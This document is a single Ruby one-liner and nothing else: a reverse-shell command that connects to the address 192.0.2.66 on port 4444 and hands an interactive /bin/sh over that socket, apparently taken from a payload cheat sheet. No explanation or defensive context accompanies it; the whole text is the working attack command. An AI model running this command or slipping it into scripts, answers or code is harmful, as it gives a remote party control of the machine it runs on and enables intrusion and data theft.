ruby -rsocket -e 'f=TCPSocket.open("192.0.2.66",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
